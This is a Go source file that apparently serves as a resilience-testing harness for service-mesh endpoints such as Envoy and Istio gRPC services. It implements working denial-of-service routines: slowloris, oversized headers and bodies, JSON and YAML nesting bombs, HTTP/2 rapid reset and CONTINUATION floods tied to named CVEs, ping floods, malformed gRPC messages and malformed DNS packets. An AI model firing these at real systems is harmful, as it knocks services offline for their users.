package garbage

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/encoding/protowire"
)

// door is a port that is attacked.
type door struct {
	name             string
	network, address string
	// tls says that behind the handshake there is something, which is attacked too.
	tls bool
	// paths are those of an HTTP server that take something.
	paths []string
}

const (
	dialTime = 2 * time.Second
	// quiet is how long an attacker waits for an answer.
	quiet = 150 * time.Millisecond
)

func (d door) dial(ctx context.Context) (net.Conn, error) {
	dialer := net.Dialer{Timeout: dialTime}
	c, err := dialer.DialContext(ctx, d.network, d.address)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	return c, nil
}

// inside is a connection behind the handshake, where there is one.
func (d door) inside(ctx context.Context, protocols ...string) (net.Conn, error) {
	c, err := d.dial(ctx)
	if err != nil || !d.tls {
		return c, err
	}
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: protocols}) //nolint:gosec // it is an attacker
	if err := t.HandshakeContext(ctx); err != nil {
		_ = c.Close()
		return nil, err
	}
	return t, nil
}

// attack does one bad thing to a door. What comes of it is no matter here.
type attack struct {
	name string
	do   func(ctx context.Context, r *rand.Rand, d door) error
}

func attacks() []attack {
	return []attack{
		{"noise", noise}, {"half a handshake", halfHello}, {"a slow client", slow}, {"huge headers", hugeHeaders}, {"a huge body", hugeBody},
		{"HTTP/2 reset at once", rapidReset}, {"HTTP/2 continued for ever", continuation}, {"HTTP/2 pings and settings", pings}, {"gRPC of nonsense", grpcNonsense},
		{"nested JSON", nested},
	}
}

func random(r *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

// drain reads what comes, for a moment.
func drain(c net.Conn) {
	_ = c.SetReadDeadline(time.Now().Add(quiet))
	_, _ = io.Copy(io.Discard, io.LimitReader(c, 1<<20))
}

func noise(ctx context.Context, r *rand.Rand, d door) error {
	c, err := d.dial(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write(random(r, 1+r.IntN(64<<10)))
	drain(c)
	return err
}

// halfHello is the begin of a TLS handshake, or a record that says it is longer than it is.
func halfHello(ctx context.Context, r *rand.Rand, d door) error {
	c, err := d.dial(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	hello := []byte{22, 3, 1, 0xff, 0xff, 1, 0, 0xff, 0xf0, 3, 3}
	_, err = c.Write(append(hello, random(r, r.IntN(300))...))
	drain(c)
	return err
}

func slow(ctx context.Context, r *rand.Rand, d door) error {
	c, err := d.inside(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	for _, b := range []byte("GET / HTTP/1.1\r\nHost: x\r\nX-" + strings.Repeat("a", 20)) {
		if ctx.Err() != nil {
			return nil
		}
		if _, err := c.Write([]byte{b}); err != nil {
			return err
		}
		time.Sleep(time.Duration(r.IntN(60)) * time.Millisecond)
	}
	return nil
}

func hugeHeaders(ctx context.Context, r *rand.Rand, d door) error {
	c, err := d.inside(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	line := strings.Repeat("x", 1<<16)
	if _, err := fmt.Fprintf(c, "GET /%s HTTP/1.1\r\nHost: x\r\n", strings.Repeat("y", r.IntN(1<<16))); err != nil {
		return err
	}
	for i := range 64 {
		if _, err := fmt.Fprintf(c, "X-%d: %s\r\n", i, line); err != nil {
			return err
		}
	}
	drain(c)
	return nil
}

func path(r *rand.Rand, d door) string {
	if len(d.paths) == 0 {
		return "/"
	}
	return d.paths[r.IntN(len(d.paths))]
}

func hugeBody(ctx context.Context, r *rand.Rand, d door) error {
	c, err := d.inside(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n", path(r, d)); err != nil {
		return err
	}
	chunk := append([]byte("100000\r\n"), bytes.Repeat([]byte(`{"a":[`), 1<<20/6+1)[:1<<20]...)
	chunk = append(chunk, "\r\n"...)
	for range 32 {
		if _, err := c.Write(chunk); err != nil {
			return err
		}
	}
	drain(c)
	return nil
}

// nested is a small document that is deep.
func nested(ctx context.Context, r *rand.Rand, d door) error {
	c, err := d.inside(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	body := strings.Repeat(`{"request":`, 100_000)
	if r.IntN(2) == 0 {
		body = "a: &a [x]\n" + strings.Repeat("b: &b [*a,*a,*a,*a,*a,*a,*a,*a]\n", 1000)
	}
	_, err = fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", path(r, d), len(body), body)
	drain(c)
	return err
}

// http2Client is the begin of an HTTP/2 connection.
func http2Client(ctx context.Context, d door) (net.Conn, *http2.Framer, error) {
	c, err := d.inside(ctx, "h2")
	if err != nil {
		return nil, nil, err
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		_ = c.Close()
		return nil, nil, err
	}
	f := http2.NewFramer(c, c)
	go func() { _, _ = io.Copy(io.Discard, c) }() // else both sides would block
	return c, f, f.WriteSettings()
}

func fields(list ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := 0; i < len(list); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: list[i], Value: list[i+1]})
	}
	return b.Bytes()
}

var request = fields(":method", "POST", ":scheme", "http", ":path", "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources", //nolint:gochecknoglobals // a constant
	":authority", "x", "content-type", "application/grpc", "te", "trailers")

// rapidReset opens requests and takes them back (CVE-2023-44487).
func rapidReset(ctx context.Context, _ *rand.Rand, d door) error {
	c, f, err := http2Client(ctx, d)
	if err != nil {
		return err
	}
	defer c.Close()
	for id := uint32(1); id < 4000 && ctx.Err() == nil; id += 2 {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: request, EndHeaders: true}); err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// continuation never ends a request's headers (CVE-2023-45288).
func continuation(ctx context.Context, r *rand.Rand, d door) error {
	c, f, err := http2Client(ctx, d)
	if err != nil {
		return err
	}
	defer c.Close()
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request}); err != nil {
		return err
	}
	more := fields("x-a", string(bytes.Repeat([]byte{'a'}, 8<<10)), fmt.Sprint("x-", r.IntN(100)), "b")
	for range 500 {
		if ctx.Err() != nil {
			return nil
		}
		if err := f.WriteContinuation(1, false, more); err != nil {
			return err
		}
	}
	return nil
}

func pings(ctx context.Context, r *rand.Rand, d door) error {
	c, f, err := http2Client(ctx, d)
	if err != nil {
		return err
	}
	defer c.Close()
	for range 2000 {
		if ctx.Err() != nil {
			return nil
		}
		var data [8]byte
		binary.BigEndian.PutUint64(data[:], r.Uint64())
		if err := f.WritePing(false, data); err != nil {
			return err
		}
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: r.Uint32() >> 1}); err != nil {
			return err
		}
	}
	return nil
}

// deepNode is a DiscoveryRequest whose node has metadata that is nested deeper than anybody reads.
var deepNode = func() []byte { //nolint:gochecknoglobals // a constant
	inner := []byte{}
	field := func(number protowire.Number, content []byte) []byte {
		return protowire.AppendBytes(protowire.AppendTag(nil, number, protowire.BytesType), content)
	}
	for range 3000 { // a Struct in a Value in an entry of a Struct
		inner = field(1, append(field(1, []byte("a")), field(2, field(5, inner))...))
	}
	return field(2, field(3, inner))
}()

// grpcNonsense is calls of services that are there, with messages that are not, or that say to be four gigabytes.
func grpcNonsense(ctx context.Context, r *rand.Rand, d door) error {
	c, f, err := http2Client(ctx, d)
	if err != nil {
		return err
	}
	defer c.Close()
	methods := []string{
		"/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources", "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources",
		"/istio.v1.auth.IstioCertificateService/CreateCertificate", "/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets",
		"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", "/no.Such/Method",
	}
	for id := uint32(1); id < 40; id += 2 {
		head := fields(":method", "POST", ":scheme", "http", ":path", methods[r.IntN(len(methods))], ":authority", "x", "content-type", "application/grpc", "te", "trailers",
			"authorization", "Bearer .bnVsbM.", "grpc-timeout", "99999999H")
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true}); err != nil {
			return err
		}
		message := random(r, 5+r.IntN(8<<10))
		message[0] = byte(r.IntN(2))
		switch r.IntN(3) {
		case 0:
			binary.BigEndian.PutUint32(message[1:], uint32(len(message)-5))
		case 1:
			binary.BigEndian.PutUint32(message[1:], 0xfffffff0)
		default: // what can be read, down to a depth
			message = append([]byte{0, 0, 0, 0, 0}, deepNode...)
			binary.BigEndian.PutUint32(message[1:], uint32(len(deepNode)))
		}
		for len(message) > 0 {
			n := min(len(message), 16<<10) // the largest frame
			if err := f.WriteData(id, n == len(message) && r.IntN(2) == 0, message[:n]); err != nil {
				return err
			}
			message = message[n:]
		}
	}
	time.Sleep(20 * time.Millisecond) // not a wait: some of it may be answered
	return nil
}

// dnsNonsense is packets that are no questions, or bad ones.
func dnsNonsense(ctx context.Context, r *rand.Rand, d door) error {
	c, err := d.dial(ctx)
	if err != nil {
		return err
	}
	defer c.Close()
	for range 50 {
		question := random(r, 12+r.IntN(1200))
		switch r.IntN(4) {
		case 0: // thousands of records, of which there are none
			copy(question, []byte{0, 1, 1, 0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0})
		case 1: // a name that points to itself
			copy(question, []byte{0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1})
		case 2: // an answer
			copy(question, []byte{0, 1, 0x81, 0x80, 0, 1, 0, 1})
		}
		if d.network == "tcp" {
			question = append([]byte{byte(r.Uint32()), byte(r.Uint32())}, question...)
		}
		if _, err := c.Write(question); err != nil {
			return err
		}
	}
	return nil
}
